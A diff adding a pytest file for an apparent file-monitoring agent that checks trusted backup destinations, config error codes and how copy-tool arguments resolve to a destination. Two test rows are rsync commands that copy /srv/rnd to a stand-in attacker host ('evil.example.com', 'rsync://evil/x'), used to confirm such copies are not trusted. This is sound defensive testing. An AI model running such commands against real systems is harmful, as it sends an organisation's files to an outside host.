@@ -1,0 +1,134 @@
+"""Trusted destinations: the config section, and which events the stage marks trusted."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from agent.config import TrustedDestination, check_text
+from agent.enrich.trusted import TrustedStage, copy_destination
+from agent.events import Event
+
+REPO = Path(__file__).resolve().parents[2]
+
+
+def test_the_readme_example_is_a_valid_config(tmp_path: Path) -> None:
+    readme = (REPO / "README.md").read_text(encoding="utf-8")
+    block = re.search(r"```yaml\n(trusted:\n.*?)```", readme, re.S)
+    assert block is not None
+    config, problems = check_text(
+        f"watch: [{{path: {tmp_path}}}]\n{block.group(1)}", str(tmp_path / "agent.yaml")
+    )
+    assert problems == [] and config is not None
+    assert [t.name for t in config.trusted] == [
+        "path:/backup/rnd",
+        "label:LAB-BACKUP-01",
+        "serial:4C530001230517109113",
+        "share://nas.corp.example.com/projects",
+        "provider:onedrive",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("entry", "code", "message"),
+    [
+        ("- {path: /b}", "CFG_REQUIRED", "trusted[0] needs a 'reason'"),
+        ("- {path: /b, provider: x, reason: r}", "CFG_VALUE", "exactly one of"),
+        ("- {device: {label: A, serial: B}, reason: r}", "CFG_VALUE", "label or serial"),
+        ("- {device: {colour: red}, reason: r}", "CFG_UNKNOWN_KEY", "colour"),
+        ("- {paht: /b, reason: r}", "CFG_UNKNOWN_KEY", "paht"),
+        ("{path: /b}", "CFG_TYPE", "trusted must be a list"),
+    ],
+)
+def test_a_bad_trusted_entry_is_located_with_a_code(
+    tmp_path: Path, entry: str, code: str, message: str
+) -> None:
+    config, problems = check_text(
+        f"watch: [{{path: {tmp_path}}}]\ntrusted:\n  {entry}\n", str(tmp_path / "a.yaml")
+    )
+    assert config is None
+    assert any(p.code == code and message in p.message and p.line == 3 for p in problems), [
+        str(p) for p in problems
+    ]
+
+
+@pytest.mark.parametrize(
+    ("args", "cwd", "dest"),
+    [
+        (["rsync", "-a", "/srv/rnd/", "/backup/rnd/"], None, "/backup/rnd"),
+        (["cp", "-r", "src", "../backup"], "/home/a/work", "/home/a/backup"),
+        (["cp", "-t", "/backup", "/srv/rnd/a", "/srv/rnd/b"], None, "/backup"),
+        (["cp", "--target-directory=/backup", "/srv/rnd/a"], None, "/backup"),
+        (["/usr/bin/rsync", "-a", "--", "/srv/rnd", "/backup"], None, "/backup"),
+        (["rsync", "-a", "/srv/rnd", "evil.example.com:/backup"], None, None),
+        (["rsync", "-a", "/srv/rnd", "rsync://evil/x", "/backup"], None, None),
+        (["scp", "/srv/rnd/a", "/backup"], None, None),  # not a local copy tool
+        (["cp", "/srv/rnd/a"], None, None),
+        (["cp", "a", "b"], None, None),  # relative, no working directory known
+    ],
+)
+def test_the_destination_of_a_copy_tool(args: list[str], cwd: str | None, dest: str | None) -> None:
+    assert copy_destination(args, cwd) == dest
+
+
+def test_the_stage_marks_trusted_places_and_a_copy_tools_reads_only() -> None:
+    stage = TrustedStage(
+        (
+            TrustedDestination("backup", path="/backup"),
+            TrustedDestination("stick", label="LAB-01"),
+            TrustedDestination("tenant", provider="onedrive"),
+        ),
+        None,
+    )
+    rsync = ("rsync", "-a", "/srv/rnd/", "/backup/rnd/")
+
+    def trusted(**kw: object) -> bool | None:
+        return stage(Event(1, **kw)).location_trusted  # type: ignore[arg-type]
+
+    assert trusted(action="closed_write", path="/backup/rnd/a.c") is True
+    assert trusted(action="closed_write", path="/backupx/a.c") is None
+    assert (
+        trusted(
+            action="closed_write",
+            path="/media/u/LAB-01/a",
+            location="removable",
+            location_provider="LAB-01",
+        )
+        is True
+    )
+    assert (
+        trusted(
+            action="closed_write",
+            path="/media/u/KEY/a",
+            location="removable",
+            location_provider="KEY",
+        )
+        is None
+    )
+    assert (
+        trusted(
+            action="closed_write",
+            path="/home/a/OneDrive/x",
+            location="cloud_sync",
+            location_provider="onedrive",
+        )
+        is True
+    )
+    assert (
+        trusted(
+            action="closed_write",
+            path="/home/a/Dropbox/x",
+            location="cloud_sync",
+            location_provider="dropbox",
+        )
+        is None
+    )
+    assert (
+        trusted(action="process_started", path="/srv/rnd", category="process", process_args=rsync)
+        is True
+    )
+    assert trusted(action="closed_nowrite", path="/srv/rnd/a.c", process_args=rsync) is True
+    # The same tool's writes elsewhere are judged where they land, not by its arguments.
+    assert trusted(action="closed_write", path="/tmp/x", process_args=rsync) is None
